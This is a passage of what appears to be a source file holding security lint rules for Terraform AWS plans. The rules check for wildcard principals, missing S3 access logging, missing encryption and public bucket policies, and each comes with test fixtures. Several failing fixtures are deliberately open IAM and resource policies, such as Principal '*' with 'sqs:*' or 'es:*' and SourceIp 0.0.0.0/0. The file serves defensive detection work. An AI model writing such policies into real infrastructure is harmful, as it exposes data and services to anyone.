               "after": {"repository": "app", "policy": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":[\"ecr:BatchGetImage\",\"ecr:GetDownloadUrlForLayer\"],\"Resource\":\"*\",\"Condition\":{\"StringEquals\":{\"aws:PrincipalOrgID\":[\"o-a1b2c3d4e5\"]}}}]}"}}},
            {"address": "aws_iam_role.ci", "mode": "managed", "type": "aws_iam_role", "name": "ci",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"name": "ci", "assume_role_policy": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"Federated\":\"arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com\"},\"Action\":\"sts:AssumeRoleWithWebIdentity\",\"Resource\":\"*\",\"Condition\":{\"StringLike\":{\"token.actions.githubusercontent.com:sub\":\"repo:acme/app:*\"}}}]}"}}}]}
        """
        example fail "wildcard principals with no binding condition, in several services and spellings" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_sqs_queue_policy.open", "mode": "managed", "type": "aws_sqs_queue_policy", "name": "open",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"policy": ↓"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"sqs:*\",\"Resource\":\"*\"}]}"}}},
            {"address": "aws_sns_topic_policy.tls", "mode": "managed", "type": "aws_sns_topic_policy", "name": "tls",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"policy": ↓"{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [\n    {\n      \"Sid\": \"PublishOverTls\",\n      \"Effect\": \"Allow\",\n      \"Principal\": {\n        \"AWS\": \"*\"\n      },\n      \"Action\": \"SNS:Publish\",\n      \"Resource\": \"*\",\n      \"Condition\": {\n        \"Bool\": {\n          \"aws:SecureTransport\": \"true\"\n        }\n      }\n    }\n  ]\n}"}}},
            {"address": "aws_kms_key.shared", "mode": "managed", "type": "aws_kms_key", "name": "shared",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"policy": ↓"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"*\"},\"Action\":\"kms:Decrypt\",\"Resource\":\"*\",\"Condition\":{\"StringLike\":{\"kms:ViaService\":\"s3.*.amazonaws.com\"}}}]}"}}},
            {"address": "aws_ecr_repository_policy.any_account", "mode": "managed", "type": "aws_ecr_repository_policy", "name": "any_account",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"policy": ↓"{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [\n    {\n      \"Effect\": \"Allow\",\n      \"Principal\": \"*\",\n      \"Action\": \"ecr:*\",\n      \"Resource\": \"*\",\n      \"Condition\": {\n        \"StringLike\": {\n          \"aws:PrincipalArn\": \"arn:aws:iam::*:role/ci\"\n        }\n      }\n    }\n  ]\n}"}}},
            {"address": "aws_iam_role.anyone", "mode": "managed", "type": "aws_iam_role", "name": "anyone",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"assume_role_policy": ↓"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"*\"},\"Action\":\"sts:AssumeRole\",\"Resource\":\"*\",\"Condition\":{\"StringEquals\":{\"sts:ExternalId\":\"acme\"}}}]}"}}},
            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"access_policies": ↓"{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [\n    {\n      \"Effect\": \"Allow\",\n      \"Principal\": {\n        \"AWS\": [\n          \"*\"\n        ]\n      },\n      \"Action\": \"es:*\",\n      \"Resource\": \"*\",\n      \"Condition\": {\n        \"IpAddress\": {\n          \"aws:SourceIp\": [\n            \"10.0.0.0/8\",\n            \"0.0.0.0/0\"\n          ]\n        }\n      }\n    }\n  ]\n}"}}}]}
        """ expect "'aws_sqs_queue_policy.open' policy has a statement (#1) that allows Principal '*' without a Condition"
            expect "'aws_sns_topic_policy.tls' policy has a statement ('PublishOverTls') that allows Principal '*' with conditions that do not restrict who can call (aws:SecureTransport)"
            expect "'aws_kms_key.shared' policy has a statement (#1) that allows Principal '*' with conditions that do not restrict who can call (kms:ViaService)"
            expect "'aws_ecr_repository_policy.any_account' policy has a statement (#1) that allows Principal '*' with conditions that do not restrict who can call (aws:PrincipalArn)"
            expect "'aws_iam_role.anyone' assume_role_policy has a statement (#1) that allows Principal '*' with conditions that do not restrict who can call (sts:ExternalId)"
            expect "'aws_opensearch_domain.search' access_policies has a statement (#1) that allows Principal '*' with conditions that do not restrict who can call (aws:SourceIp)"
        example indeterminate "queue policy rendered at apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_sqs_queue_policy.q", "mode": "managed", "type": "aws_sqs_queue_policy", "name": "q",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {}, "after_unknown": {"queue_url": true, "policy": true}}}]}
        """ expect "cannot tell whether 'aws_sqs_queue_policy.q' is open to anyone"
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/s3_bucket_access_logging_missing.plumb",
      text: #"""
      rule s3_bucket_access_logging_missing {
        title "S3 buckets have server access logging"
        severity low
        category security
        tags [terraform, aws, s3, logging]
        rationale """
          Server access logs record every request to the bucket: who read which object, from where,
          with which credentials. Without them (CloudTrail records object-level reads only when data
          events are paid for), an investigation after a leaked key or a public-bucket incident cannot
          tell what was taken.
        """
        remediation """
          Add `resource "aws_s3_bucket_logging"` with `bucket = aws_s3_bucket.<name>.id` and a
          `target_bucket` that collects logs (provider v4+), or a `logging { target_bucket = … }` block
          on the bucket with older providers. Buckets that receive access logs are exempt (param
          `exempt_log_targets`).
        """
        param exempt_log_targets: bool = true

        for b in terraform.resource("aws_s3_bucket")
        when not is_null(b.after)
        let ref = "aws_s3_bucket." + b.name
        let bucket_name = first(filter(x in [b.after.bucket], known(x)))
        # The resources whose configuration references the bucket (same plan, same module instance).
        let referrers = b -> referencedBy
        # A bucket that receives access logs does not log its own access (that would loop). Logging
        # resources and legacy buckets that name it as target literally, or whose target expression
        # references it.
        let log_target = count(terraform.resource("aws_s3_bucket_logging")[after.target_bucket == bucket_name])
          + count(filter(x in referrers, type(x) == "aws_s3_bucket_logging" and ref in x.config.target_bucket.references))
          + count(terraform.resource("aws_s3_bucket")[after.logging[0].target_bucket == bucket_name])
          + count(filter(x in referrers, type(x) == "aws_s3_bucket" and ref in x.config.logging[0].target_bucket.references))
        when not (param.exempt_log_targets and log_target > 0)
        # Logging resources that name the bucket literally, and those whose `bucket` expression
        # references it.
        let loggings = count(terraform.resource("aws_s3_bucket_logging")[after.bucket == bucket_name])
          + count(filter(x in referrers, type(x) == "aws_s3_bucket_logging" and ref in x.config.bucket.references))
        # Logging resources whose bucket is known only after apply and whose `bucket` expression
        # references no aws_s3_bucket (a variable, a local, a module output): any may be this bucket's.
        # The lookup does not depend on the bucket, so it is computed once per run.
        let unattributed = terraform.resource("aws_s3_bucket_logging")[change.after_unknown.bucket == true and none(x in [config.bucket.references[0], config.bucket.references[1], config.bucket.references[2]], starts_with(x, "aws_s3_bucket."))]
        # One of them stands for all when one is in this bucket's plan (`any` stops at the first): their
        # buckets are all unknown, so each makes the requirement unknown, with the same evidence.
        let opaque = filter(p in [first(unattributed)], any(q in unattributed, file(q) == file(b)))
        let inline_unset = exists(b.provider.key) and not exists(b.config.logging) and is_unknown(b.after.logging)
        let inline_on = not inline_unset and count(b.after.logging) > 0
        require loggings > 0 or inline_on or any(p in opaque, p.after.bucket == b.after.bucket)
          else "'${b.address}' has no server access logging" at b.address

        example pass "logging resource" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "logging": true}}},
            {"address": "aws_s3_bucket.logs", "mode": "managed", "type": "aws_s3_bucket", "name": "logs",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-logs"}, "after_unknown": {"id": true, "logging": true}}},
            {"address": "aws_s3_bucket_logging.data", "mode": "managed", "type": "aws_s3_bucket_logging", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"target_prefix": "data/"}, "after_unknown": {"bucket": true, "target_bucket": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-data"}}},
            {"address": "aws_s3_bucket.logs", "mode": "managed", "type": "aws_s3_bucket", "name": "logs", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-logs"}}},
            {"address": "aws_s3_bucket_logging.data", "mode": "managed", "type": "aws_s3_bucket_logging", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"references": ["aws_s3_bucket.data.id", "aws_s3_bucket.data"]},
                             "target_bucket": {"references": ["aws_s3_bucket.logs.id", "aws_s3_bucket.logs"]},
                             "target_prefix": {"constant_value": "data/"}}}]}}}
        """
        example pass "legacy inline block" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"bucket": "acme-data", "logging": [{"target_bucket": "acme-logs", "target_prefix": "data/"}]}, "after_unknown": {"id": true}}}]}
        """
        example fail """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": ↓"aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data", "logging": []}, "after_unknown": {"id": true}}}]}
        """ expect "'aws_s3_bucket.data' has no server access logging"
        example indeterminate "logging whose bucket comes from a variable" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "logging": true}}},
            {"address": "aws_s3_bucket_logging.any", "mode": "managed", "type": "aws_s3_bucket_logging", "name": "any",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"target_bucket": "acme-logs"}, "after_unknown": {"bucket": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-data"}}},
            {"address": "aws_s3_bucket_logging.any", "mode": "managed", "type": "aws_s3_bucket_logging", "name": "any", "provider_config_key": "aws",
             "expressions": {"bucket": {"references": ["var.bucket_id"]}, "target_bucket": {"constant_value": "acme-logs"}}}]}}}
        """
        example fail "module instances: each bucket has only its own logging resource" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "module.s3[\"a\"].aws_s3_bucket.this[0]", "module_address": "module.s3[\"a\"]", "mode": "managed", "type": "aws_s3_bucket", "name": "this", "index": 0,
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-a"}, "after_unknown": {"id": true, "logging": true}}},
            {"address": "module.s3[\"a\"].aws_s3_bucket_logging.this[0]", "module_address": "module.s3[\"a\"]", "mode": "managed", "type": "aws_s3_bucket_logging", "name": "this", "index": 0,
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"target_bucket": "acme-logs", "target_prefix": "a/"}, "after_unknown": {"bucket": true}}},
            {"address": ↓"module.s3[\"b\"].aws_s3_bucket.this[0]", "module_address": "module.s3[\"b\"]", "mode": "managed", "type": "aws_s3_bucket", "name": "this", "index": 0,
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-b"}, "after_unknown": {"id": true, "logging": true}}}],
           "configuration": {"root_module": {"module_calls": {"s3": {"source": "./modules/s3", "for_each_expression": {"references": ["var.buckets"]},
             "module": {"resources": [
              {"address": "aws_s3_bucket.this", "mode": "managed", "type": "aws_s3_bucket", "name": "this", "provider_config_key": "aws",
               "expressions": {"bucket": {"references": ["var.name"]}}, "count_expression": {"constant_value": 1}},
              {"address": "aws_s3_bucket_logging.this", "mode": "managed", "type": "aws_s3_bucket_logging", "name": "this", "provider_config_key": "aws",
               "expressions": {"bucket": {"references": ["aws_s3_bucket.this[0].id", "aws_s3_bucket.this[0]", "aws_s3_bucket.this"]}, "target_bucket": {"references": ["var.log_bucket"]}, "target_prefix": {"references": ["var.name"]}},
               "count_expression": {"references": ["var.enabled"]}}]}}}}}}
        """ expect "'module.s3[\"b\"].aws_s3_bucket.this[0]' has no server access logging"
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/s3_bucket_encryption_missing.plumb",
      text: #"""
      rule s3_bucket_encryption_missing {
        title "S3 buckets declare default server-side encryption"
        severity low
        category security
        tags [terraform, aws, s3, encryption]
        rationale """
          A bucket without a server-side encryption configuration gets S3's implicit SSE-S3 (since
          January 2023), with keys AWS owns and no key policy, no CloudTrail record of key use and no way
          to revoke access by disabling a key. Declaring the default in Terraform makes the choice
          explicit and reviewable, and is where SSE-KMS with your own key is chosen.
        """
        remediation """
          Add `resource "aws_s3_bucket_server_side_encryption_configuration"` with `bucket =
          aws_s3_bucket.<name>.id` and a `rule { apply_server_side_encryption_by_default { sse_algorithm
          = "aws:kms", kms_master_key_id = aws_kms_key.<key>.arn } }` (provider v4+), or a
          `server_side_encryption_configuration` block on the bucket with older providers.
        """

        for b in terraform.resource("aws_s3_bucket")
        when not is_null(b.after)
        let ref = "aws_s3_bucket." + b.name
        let bucket_name = first(filter(x in [b.after.bucket], known(x)))
        # Encryption configurations that name the bucket literally, and those whose `bucket` expression
        # references it (edges of the plan's configuration: same plan, same module instance).
        let configs = count(terraform.resource("aws_s3_bucket_server_side_encryption_configuration")[after.bucket == bucket_name])
          + count(filter(x in b -> referencedBy, type(x) == "aws_s3_bucket_server_side_encryption_configuration" and ref in x.config.bucket.references))
        # Configurations whose bucket is known only after apply and whose `bucket` expression references
        # no aws_s3_bucket (a variable, a local, a module output): any may be this bucket's. The lookup
        # does not depend on the bucket, so it is computed once per run.
        let unattributed = terraform.resource("aws_s3_bucket_server_side_encryption_configuration")[change.after_unknown.bucket == true and none(x in [config.bucket.references[0], config.bucket.references[1], config.bucket.references[2]], starts_with(x, "aws_s3_bucket."))]
        # One of them stands for all when one is in this bucket's plan (`any` stops at the first): their
        # buckets are all unknown, so each makes the requirement unknown, with the same evidence.
        let opaque = filter(p in [first(unattributed)], any(q in unattributed, file(q) == file(b)))
        let inline_unset = exists(b.provider.key) and not exists(b.config.server_side_encryption_configuration)
          and is_unknown(b.after.server_side_encryption_configuration)
        let inline_on = not inline_unset and count(b.after.server_side_encryption_configuration) > 0
        require configs > 0 or inline_on or any(p in opaque, p.after.bucket == b.after.bucket)
          else "'${b.address}' declares no default server-side encryption" at b.address

        example pass "encryption resource" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "server_side_encryption_configuration": true}}},
            {"address": "aws_s3_bucket_server_side_encryption_configuration.data", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"rule": [{"apply_server_side_encryption_by_default": [{"sse_algorithm": "aws:kms"}], "bucket_key_enabled": true}]},
               "after_unknown": {"bucket": true, "rule": [{"apply_server_side_encryption_by_default": [{"kms_master_key_id": true}]}]}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-data"}}},
            {"address": "aws_s3_bucket_server_side_encryption_configuration.data", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"references": ["aws_s3_bucket.data.id", "aws_s3_bucket.data"]}}}]}}}
        """
        example pass "legacy inline block" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"bucket": "acme-data", "server_side_encryption_configuration": [{"rule": [{"apply_server_side_encryption_by_default": [{"kms_master_key_id": "", "sse_algorithm": "AES256"}]}]}]},
               "after_unknown": {"id": true}}}]}
        """
        example fail """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": ↓"aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "server_side_encryption_configuration": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-data"}}}]}}}
        """ expect "'aws_s3_bucket.data' declares no default server-side encryption"
        example indeterminate "plan without configuration, block computed" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "server_side_encryption_configuration": true}}}]}
        """
        example indeterminate "a configuration whose bucket comes from a variable" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "server_side_encryption_configuration": true}}},
            {"address": "aws_s3_bucket_server_side_encryption_configuration.any", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "any",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"rule": [{"apply_server_side_encryption_by_default": [{"sse_algorithm": "AES256"}], "bucket_key_enabled": null}]}, "after_unknown": {"bucket": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-data"}}},
            {"address": "aws_s3_bucket_server_side_encryption_configuration.any", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "any", "provider_config_key": "aws",
             "expressions": {"bucket": {"references": ["var.bucket_id"]}}}]}}}
        """
        example fail "module instances: each bucket has only its own configuration" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "module.s3[\"a\"].aws_s3_bucket.this[0]", "module_address": "module.s3[\"a\"]", "mode": "managed", "type": "aws_s3_bucket", "name": "this", "index": 0,
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-a"}, "after_unknown": {"id": true, "server_side_encryption_configuration": true}}},
            {"address": "module.s3[\"a\"].aws_s3_bucket_server_side_encryption_configuration.this[0]", "module_address": "module.s3[\"a\"]", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "this", "index": 0,
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"rule": [{"apply_server_side_encryption_by_default": [{"sse_algorithm": "AES256"}], "bucket_key_enabled": null}]}, "after_unknown": {"bucket": true}}},
            {"address": ↓"module.s3[\"b\"].aws_s3_bucket.this[0]", "module_address": "module.s3[\"b\"]", "mode": "managed", "type": "aws_s3_bucket", "name": "this", "index": 0,
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-b"}, "after_unknown": {"id": true, "server_side_encryption_configuration": true}}}],
           "configuration": {"root_module": {"module_calls": {"s3": {"source": "./modules/s3", "for_each_expression": {"references": ["var.buckets"]},
             "module": {"resources": [
              {"address": "aws_s3_bucket.this", "mode": "managed", "type": "aws_s3_bucket", "name": "this", "provider_config_key": "aws",
               "expressions": {"bucket": {"references": ["var.name"]}}, "count_expression": {"constant_value": 1}},
              {"address": "aws_s3_bucket_server_side_encryption_configuration.this", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "this", "provider_config_key": "aws",
               "expressions": {"bucket": {"references": ["aws_s3_bucket.this[0].id", "aws_s3_bucket.this[0]", "aws_s3_bucket.this"]}, "rule": [{"apply_server_side_encryption_by_default": [{"sse_algorithm": {"constant_value": "AES256"}}]}]},
               "count_expression": {"references": ["var.enabled"]}}]}}}}}}
        """ expect "'module.s3[\"b\"].aws_s3_bucket.this[0]' declares no default server-side encryption"
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/s3_bucket_encryption_not_kms.plumb",
      text: #"""
      rule s3_bucket_encryption_not_kms {
        title "S3 default encryption uses KMS with a customer managed key"
        severity low
        category security
        tags [terraform, aws, s3, encryption, kms]
        rationale """
          With SSE-S3 (`AES256`) or the AWS-managed `aws/s3` key, anyone allowed `s3:GetObject` reads
          the data: the key adds no second check, its policy cannot be changed, and it cannot be
          disabled to cut off access during an incident. A customer managed KMS key adds its own policy,
          logs every decryption in CloudTrail and can be revoked.
        """
        remediation """
          Set `sse_algorithm = "aws:kms"` (or `"aws:kms:dsse"`) and `kms_master_key_id =
          aws_kms_key.<key>.arn` in `apply_server_side_encryption_by_default`, and
          `bucket_key_enabled = true` to keep KMS request costs low. Set the parameter
          `require_customer_key` to false to accept the AWS-managed key.
        """
        param kms_algorithms: list<string> = ["aws:kms", "aws:kms:dsse"]
        param require_customer_key: bool = true

        for r in terraform.resource("aws_s3_bucket_server_side_encryption_configuration", "aws_s3_bucket")
        when not is_null(r.after)
        # Legacy inline configuration on aws_s3_bucket (computed when not written: nothing to check;
        # s3_bucket_encryption_missing reports buckets without any configuration).
        let inline_unset = exists(r.provider.key) and not exists(r.config.server_side_encryption_configuration)
          and is_unknown(r.after.server_side_encryption_configuration)
        when not inline_unset
        let rules = flatten([default(r.after.rule, []), flatten(map(c in default(r.after.server_side_encryption_configuration, []), c.rule))])
        let defaults = flatten(map(x in rules, x.apply_server_side_encryption_by_default))
        let not_kms = filter(d in defaults, d.sse_algorithm not in param.kms_algorithms)
        # A key ARN known only after apply that the configuration takes from an aws_kms_key resource is a
        # customer managed key.
        let config_rules = flatten([default(r.config.rule, []), flatten(map(c in default(r.config.server_side_encryption_configuration, []), c.rule))])
        let key_refs = flatten(map(x in flatten(map(c in config_rules, c.apply_server_side_encryption_by_default)), default(x.kms_master_key_id.references, [])))
        let cmk_ref = any(x in key_refs, starts_with(x, "aws_kms_key."))
        let aws_key = filter(d in defaults, d.sse_algorithm in param.kms_algorithms and is_empty(d.kms_master_key_id) and not cmk_ref)
        require count(not_kms) == 0
          else "'${r.address}' encrypts with '${first(not_kms).sse_algorithm}', not KMS" at first(not_kms).sse_algorithm
        require not param.require_customer_key or count(aws_key) == 0
          else "'${r.address}' uses KMS without kms_master_key_id, so the AWS-managed key aws/s3" at first(aws_key).sse_algorithm

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket_server_side_encryption_configuration.data", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"bucket": "acme-data", "rule": [{"apply_server_side_encryption_by_default": [{"kms_master_key_id": "arn:aws:kms:eu-west-1:111122223333:key/1234abcd", "sse_algorithm": "aws:kms"}], "bucket_key_enabled": true}]},
               "after_unknown": {}}},
            {"address": "aws_s3_bucket.legacy", "mode": "managed", "type": "aws_s3_bucket", "name": "legacy",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"bucket": "acme-legacy", "server_side_encryption_configuration": [{"rule": [{"apply_server_side_encryption_by_default": [{"kms_master_key_id": "arn:aws:kms:eu-west-1:111122223333:key/1234abcd", "sse_algorithm": "aws:kms"}]}]}]},
               "after_unknown": {}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket_server_side_encryption_configuration.data", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"bucket": "acme-data", "rule": [{"apply_server_side_encryption_by_default": [{"kms_master_key_id": null, "sse_algorithm": ↓"AES256"}], "bucket_key_enabled": null}]},
               "after_unknown": {}}},
            {"address": "aws_s3_bucket.legacy", "mode": "managed", "type": "aws_s3_bucket", "name": "legacy",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"bucket": "acme-legacy", "server_side_encryption_configuration": [{"rule": [{"apply_server_side_encryption_by_default": [{"kms_master_key_id": "", "sse_algorithm": ↓"aws:kms"}]}]}]},
               "after_unknown": {}}}]}
        """ expect "'aws_s3_bucket_server_side_encryption_configuration.data' encrypts with 'AES256', not KMS"
            expect "'aws_s3_bucket.legacy' uses KMS without kms_master_key_id"
        example pass "key created in the same configuration" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket_server_side_encryption_configuration.data", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"bucket": "acme-data", "rule": [{"apply_server_side_encryption_by_default": [{"sse_algorithm": "aws:kms"}]}]},
               "after_unknown": {"rule": [{"apply_server_side_encryption_by_default": [{"kms_master_key_id": true}]}]}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket_server_side_encryption_configuration.data", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "data", "provider_config_key": "aws",
             "expressions": {"bucket": {"constant_value": "acme-data"}, "rule": [{"apply_server_side_encryption_by_default": [{
               "kms_master_key_id": {"references": ["aws_kms_key.data.arn", "aws_kms_key.data"]}, "sse_algorithm": {"constant_value": "aws:kms"}}]}]}}]}}}
        """
        example indeterminate "key known only after apply, from a variable" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket_server_side_encryption_configuration.data", "mode": "managed", "type": "aws_s3_bucket_server_side_encryption_configuration", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"bucket": "acme-data", "rule": [{"apply_server_side_encryption_by_default": [{"sse_algorithm": "aws:kms"}]}]},
               "after_unknown": {"rule": [{"apply_server_side_encryption_by_default": [{"kms_master_key_id": true}]}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/s3_bucket_policy_public.plumb",
      text: #"""
      rule s3_bucket_policy_public {
        title "S3 bucket policies do not allow any principal unless a condition restricts who"
        severity critical
        category security
        tags [terraform, aws, s3, public-access, iam]
        rationale """
          A bucket policy statement with `"Effect": "Allow"` and `"Principal": "*"` (or `{"AWS": "*"}`,
          `["*"]`, or an Allow with `NotPrincipal`) grants its actions to everyone on the internet,
          signed or anonymous, unless a condition binds who may call or from where: a VPC endpoint or
          VPC (`aws:SourceVpce`, `aws:SourceVpc`), an address range (`aws:SourceIp`), an organization or
          account (`aws:PrincipalOrgID`, `aws:PrincipalAccount`, `aws:SourceAccount`), a principal or
          source ARN (`aws:PrincipalArn`, `aws:SourceArn` for CloudFront). Conditions that do not say who
          calls (`aws:SecureTransport`, `aws:UserAgent`, `aws:Referer`, times), negated operators
          (`StringNotEquals`), `…IfExists` and `ForAllValues:` (both true when the request has no such
          key) and wildcard values leave the statement public (see `public_statements` in
          docs/policy-language.md). With `s3:GetObject` the bucket's data is public; with `s3:PutObject`
          or `"*"` anyone can plant malware or delete data.
        """
        remediation """
          Name the principals that need access (account or role ARNs, or a service principal), or
          restrict the statement with a condition on the caller (`aws:SourceVpce`, `aws:PrincipalOrgID`,
          `aws:SourceArn` for CloudFront) with exact values. Keep the bucket's public access block on so
          that S3 rejects such policies.
        """

        for r in terraform.resource("aws_s3_bucket_policy", "aws_s3_bucket")
        when not is_null(r.after)
